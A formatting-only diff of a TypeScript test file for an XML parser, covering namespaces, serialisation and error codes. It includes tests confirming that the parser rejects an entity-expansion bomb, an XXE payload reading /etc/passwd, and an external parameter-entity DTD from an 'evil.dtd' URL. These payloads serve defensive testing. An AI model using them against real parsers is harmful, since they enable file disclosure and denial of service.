@@ -1,7 +1,14 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
 import { Codes, EngineError } from "../../src/messages.js";
-import { attr, childElements, parseXml, serializeChildren, serializeXml, textContent } from "../../src/xml/parse.js";
+import {
+  attr,
+  childElements,
+  parseXml,
+  serializeChildren,
+  serializeXml,
+  textContent,
+} from "../../src/xml/parse.js";
 
 function codeOf(fn: () => unknown): string | undefined {
   try {
@@ -24,7 +31,13 @@ test("namespaces, attribute order, line/column, predefined entities and char ref
   assert.equal(b.line, 3);
   assert.equal(b.column, 3);
   const multi = parseXml(`<a>\n<bb\n  x="1"/><c/></a>`);
-  assert.deepEqual(childElements(multi.root).map((e) => [e.line, e.column]), [[2, 1], [3, 10]]);
+  assert.deepEqual(
+    childElements(multi.root).map((e) => [e.line, e.column]),
+    [
+      [2, 1],
+      [3, 10],
+    ],
+  );
   assert.deepEqual(
     b.attributes.map((a) => [a.name, a.uri, a.value]),
     [
@@ -38,12 +51,17 @@ test("namespaces, attribute order, line/column, predefined entities and char ref
 });
 
 test("serialisation re-declares namespaces bound outside the subtree and round-trips", () => {
-  const doc = parseXml(`<r xmlns:h="urn:h" xmlns="urn:d"><n>\n <h:p class="a&quot;b">x &amp; y</h:p><!--c--></n></r>`);
+  const doc = parseXml(
+    `<r xmlns:h="urn:h" xmlns="urn:d"><n>\n <h:p class="a&quot;b">x &amp; y</h:p><!--c--></n></r>`,
+  );
   const n = childElements(doc.root)[0]!;
   const s = serializeChildren(n);
   assert.equal(s, `\n <h:p xmlns:h="urn:h" class="a&quot;b">x &amp; y</h:p><!--c-->`);
   const whole = serializeXml(n);
-  assert.equal(whole, `<n xmlns="urn:d" xmlns:h="urn:h">\n <h:p class="a&quot;b">x &amp; y</h:p><!--c--></n>`);
+  assert.equal(
+    whole,
+    `<n xmlns="urn:d" xmlns:h="urn:h">\n <h:p class="a&quot;b">x &amp; y</h:p><!--c--></n>`,
+  );
   // reading the serialised text back gives the same serialisation (a fixed point)
   assert.equal(serializeXml(parseXml(whole).root), whole);
 });
@@ -59,8 +77,15 @@ test("syntax errors carry code, line and column", () => {
     assert.equal(e.diagnostic.location?.line, 2);
     assert.ok((e.diagnostic.location?.column ?? 0) > 1);
   }
-  assert.equal(codeOf(() => parseXml("")), Codes.XML_SYNTAX);
-  assert.equal(codeOf(() => parseXml("<a>&nbsp;</a>")), Codes.XML_SYNTAX, "undefined entities are errors");
+  assert.equal(
+    codeOf(() => parseXml("")),
+    Codes.XML_SYNTAX,
+  );
+  assert.equal(
+    codeOf(() => parseXml("<a>&nbsp;</a>")),
+    Codes.XML_SYNTAX,
+    "undefined entities are errors",
+  );
 });
 
 test("entity bombs are rejected before any expansion", () => {
@@ -68,16 +93,28 @@ test("entity bombs are rejected before any expansion", () => {
   for (let i = 1; i < 10; i++) lol.push(` <!ENTITY lol${i} "${`&lol${i - 1 || ""};`.repeat(10)}">`);
   lol.push(`]>`, `<lolz>&lol9;</lolz>`);
   const t0 = Date.now();
-  assert.equal(codeOf(() => parseXml(lol.join("\n"))), Codes.XML_ENTITY);
+  assert.equal(
+    codeOf(() => parseXml(lol.join("\n"))),
+    Codes.XML_ENTITY,
+  );
   assert.ok(Date.now() - t0 < 1000, "rejection is immediate");
 });
 
 test("external entities and external DTDs are rejected, never fetched", () => {
   const xxe = `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`;
-  assert.equal(codeOf(() => parseXml(xxe)), Codes.XML_ENTITY);
+  assert.equal(
+    codeOf(() => parseXml(xxe)),
+    Codes.XML_ENTITY,
+  );
   const param = `<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://example.org/evil.dtd"> %p;]><foo/>`;
-  assert.equal(codeOf(() => parseXml(param)), Codes.XML_ENTITY);
-  assert.equal(codeOf(() => parseXml(`<!DOCTYPE foo SYSTEM "http://example.org/foo.dtd"><foo/>`)), Codes.XML_DOCTYPE);
+  assert.equal(
+    codeOf(() => parseXml(param)),
+    Codes.XML_ENTITY,
+  );
+  assert.equal(
+    codeOf(() => parseXml(`<!DOCTYPE foo SYSTEM "http://example.org/foo.dtd"><foo/>`)),
+    Codes.XML_DOCTYPE,
+  );
   // a DOCTYPE with neither entities nor an external DTD is harmless
   assert.equal(parseXml(`<!DOCTYPE foo><foo/>`).root.local, "foo");
 });
